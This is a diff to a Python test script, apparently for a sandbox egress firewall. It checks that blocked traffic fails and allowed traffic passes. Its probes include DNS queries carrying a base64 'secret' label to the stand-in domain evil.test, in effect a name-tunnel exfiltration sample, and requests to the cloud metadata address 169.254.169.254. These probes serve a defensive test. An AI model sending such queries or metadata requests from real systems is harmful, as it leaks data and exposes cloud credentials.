@@ -3,7 +3,7 @@
 import errno
 
 policy, ip, mac, port, gateway, neighbour, neighbour_mac = sys.argv[1:8]
-OUTSIDE, LAN, METADATA = "203.0.113.10", "10.99.0.5", "169.254.169.254"
+OUTSIDE, ALLOWED, LAN, METADATA = "203.0.113.10", "203.0.113.11", "10.99.0.5", "169.254.169.254"
 MARK = b"fireclaw-attack"
 DEVICE = next(name for name in os.listdir("/sys/class/net") if name != "lo")
 
@@ -111,6 +111,9 @@ def public():
 
 
 def allow():
+    asked = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
+    control("the allowed name", has_answer(datagram(gateway, 53, question("allowed.test"))))
+    control("the allowed site", b"allowed" in exchange(ALLOWED, 80, asked))
     for name, send in [("by its address", b"GET / HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"),
                        ("with an allowed name that is not its own", b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
                        ("without a name", b"GET / HTTP/1.0\r\n\r\n"),
@@ -122,8 +125,9 @@ def allow():
     said("any other port", exchange(OUTSIDE, 8080))
     said("QUIC", datagram(OUTSIDE, 443) == b"marked\n")
     said("any other UDP", datagram(OUTSIDE, 8080))
-    said("a foreign name server", datagram(OUTSIDE, 53) == b"marked\n")
+    said("a foreign name server", has_answer(datagram(OUTSIDE, 53, question("c2VjcmV0.evil.test"))))
     said("a tunnel by names", has_answer(datagram(gateway, 53, question("c2VjcmV0.evil.test"))))
+    said("the allowed site by its address", b"allowed" in exchange(ALLOWED, 80, b"GET / HTTP/1.1\r\nHost: 203.0.113.11\r\n\r\n"))
     said("ping", pinged(OUTSIDE))
     said("the metadata service", b"outside" in exchange(METADATA, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
     said("the LAN", b"outside" in exchange(LAN, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
